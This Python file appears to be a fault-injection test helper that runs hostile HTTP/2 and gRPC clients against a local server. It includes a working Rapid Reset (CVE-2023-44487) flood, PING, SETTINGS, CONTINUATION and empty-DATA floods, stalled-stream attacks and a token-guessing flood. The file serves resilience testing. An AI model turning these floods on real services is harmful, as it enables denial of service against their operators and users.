"""Clients that mean no good: `python -m tests.faults.floods KIND PORT SECONDS`, in a process of their own.

Each opens its connections to 127.0.0.1 alone, does one thing as fast as it can, and begins anew when the server closes
the connection. Prints how many connections and how many frames (or calls) it took.
"""

import asyncio
import contextlib
import selectors
import socket
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from sidemirror.v1 import thinking_pb2 as pb

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_WATCH = "/sidemirror.v1.ThinkingService/WatchTurns"
_LIST = "/sidemirror.v1.ThinkingService/ListSessions"
# What one write takes at most: many frames, so that the attacker is not what is slow.
_BURST = 200


def head(path: str, encoder: hpack.Encoder) -> bytes:
    """The headers of a call."""
    named = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    return bytes(encoder.encode([*named, ("content-type", "application/grpc"), ("te", "trailers")]))


def message(request: bytes) -> bytes:
    """A gRPC message as DATA has it."""
    return b"\0" + len(request).to_bytes(4, "big") + request


def begun(number: int, block: bytes, *flags: str) -> HeadersFrame:
    return HeadersFrame(number, block, flags=["END_HEADERS", *flags])


def numbers() -> Iterator[int]:
    return iter(range(1, 2**31 - 1, 2))


def rapid_reset() -> Iterator[Frame]:
    """Streams that are opened and taken back at once (CVE-2023-44487)."""
    encoder = hpack.Encoder()
    for number in numbers():
        yield begun(number, head(_LIST, encoder), "END_STREAM")
        yield RstStreamFrame(number, error_code=8)


def ping() -> Iterator[Frame]:
    while True:
        yield PingFrame(0, b"01234567")


def settings() -> Iterator[Frame]:
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})


def continuation() -> Iterator[Frame]:
    """Headers that never end."""
    encoder = hpack.Encoder()
    yield HeadersFrame(1, head(_LIST, encoder))
    for number in range(10**9):
        yield ContinuationFrame(1, bytes(encoder.encode([(f"x-{number}", "y" * 100)])))


def empty_data() -> Iterator[Frame]:
    """A call that sends nothing, again and again."""
    yield begun(1, head("/sidemirror.v1.ThinkingService/RunTurn", hpack.Encoder()))
    while True:
        yield DataFrame(1, b"")


FRAMES: dict[str, Callable[[], Iterator[Frame]]] = {
    "rapid-reset": rapid_reset,
    "ping": ping,
    "settings": settings,
    "continuation": continuation,
    "empty-data": empty_data,
}


_HELLO = _PREFACE + SettingsFrame(0).serialize()


def connection(port: int) -> socket.socket:
    """A connection that has introduced itself."""
    opened = socket.create_connection(("127.0.0.1", port), 5)
    opened.sendall(_HELLO)
    return opened


def watching(number: int, request: pb.WatchTurnsRequest) -> bytes:
    """All that a connection says whose stream `number` is a watch."""
    begins = begun(number, head(_WATCH, hpack.Encoder())).serialize()
    return _HELLO + begins + DataFrame(number, message(request.SerializeToString()), flags=["END_STREAM"]).serialize()


def flood(kind: str, port: int, ends_s: float) -> tuple[int, int]:
    """Frames of this kind until the time is over. Returns how many connections and frames it took."""
    connections = sent = 0
    while time.monotonic() < ends_s:
        try:
            opened = connection(port)
        except OSError:
            continue
        connections += 1
        with opened, selectors.DefaultSelector() as selector, contextlib.suppress(OSError):
            opened.setblocking(False)
            selector.register(opened, selectors.EVENT_READ | selectors.EVENT_WRITE)
            sent += pour(FRAMES[kind](), opened, selector, ends_s)
    return connections, sent


def pour(frames: Iterator[Frame], opened: socket.socket, selector: selectors.BaseSelector, ends_s: float) -> int:
    """Sends them, and takes what the server has to say, until it closes the connection. Returns how many were sent."""
    sent, waiting = 0, b""
    while time.monotonic() < ends_s:
        for _, ready in selector.select(0.1):
            if ready & selectors.EVENT_READ and not opened.recv(65_536):
                return sent
            if ready & selectors.EVENT_WRITE:
                if not waiting:
                    waiting = b"".join(next(frames).serialize() for _ in range(_BURST))
                    sent += _BURST
                with contextlib.suppress(BlockingIOError):
                    waiting = waiting[opened.send(waiting) :]
    return sent


def abandoned(port: int, ends_s: float) -> tuple[int, int]:
    """200 watches that nobody reads and nobody ends, on 2 connections, all through; then they are gone."""
    return held(port, ends_s, 2, 100, pb.WatchTurnsRequest(new_only=True))


def slow_readers(port: int, ends_s: float) -> tuple[int, int]:
    """200 watches of the whole record, each of which is given room to say all of it, and not one byte is read."""
    return held(port, ends_s, 2, 100, pb.WatchTurnsRequest(), window=2**30)


def held(
    port: int, ends_s: float, connections: int, streams: int, request: pb.WatchTurnsRequest, window: int = 0
) -> tuple[int, int]:
    opened = [connection(port) for _ in range(connections)]
    for one in opened:
        encoder = hpack.Encoder()
        frames: list[Frame] = []
        if window:
            frames.append(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window}))
            frames.append(WindowUpdateFrame(0, window_increment=window))
        for number in range(1, 2 * streams, 2):
            frames.append(begun(number, head(_WATCH, encoder)))
            frames.append(DataFrame(number, message(request.SerializeToString()), flags=["END_STREAM"]))
        one.sendall(b"".join(frame.serialize() for frame in frames))
    time.sleep(max(0.0, ends_s - time.monotonic()))
    for one in opened:
        one.close()
    return connections, connections * streams


def deadlines(port: int, ends_s: float) -> tuple[int, int]:
    """2,000 calls at once with 50 ms each, again and again. By grpc's own threads: when so many end at once, grpc.aio's
    client misses the end of some and never closes."""
    import grpc

    made = 0
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        call: Any = channel.unary_unary(_LIST)
        while time.monotonic() < ends_s:
            calls = [call.future(b"", timeout=0.05) for _ in range(2_000)]
            for one in calls:
                one.exception(timeout=60)
            made += len(calls)
    return 1, made


async def strangers(port: int, ends_s: float) -> tuple[int, int]:
    """Calls with another token that nobody knows each time, as fast as they are refused, on 4 connections."""
    import grpc

    made = 0

    async def call(on: Any) -> None:
        nonlocal made
        while time.monotonic() < ends_s:
            token = f"{made:064}"
            made += 1
            with contextlib.suppress(grpc.aio.AioRpcError):
                await on(b"", timeout=60, metadata=(("authorization", f"Bearer {token}"),))

    async with contextlib.AsyncExitStack() as stack:
        own = [("grpc.use_local_subchannel_pool", 1)]
        opened = [
            await stack.enter_async_context(grpc.aio.insecure_channel(f"127.0.0.1:{port}", own)) for _ in range(4)
        ]
        await asyncio.gather(*(call(channel.unary_unary(_LIST)) for channel in opened for _ in range(50)))
    return 4, made


KINDS = (*FRAMES, "abandoned", "slow-readers", "deadlines")


def main(kind: str, port: int, for_s: float) -> tuple[int, int]:
    ends_s = time.monotonic() + for_s
    if kind == "abandoned":
        return abandoned(port, ends_s)
    if kind == "slow-readers":
        return slow_readers(port, ends_s)
    if kind == "deadlines":
        return deadlines(port, ends_s)
    if kind == "strangers":
        return asyncio.run(strangers(port, ends_s))
    return flood(kind, port, ends_s)


if __name__ == "__main__":
    sys.stdout.write("{} {}\n".format(*main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
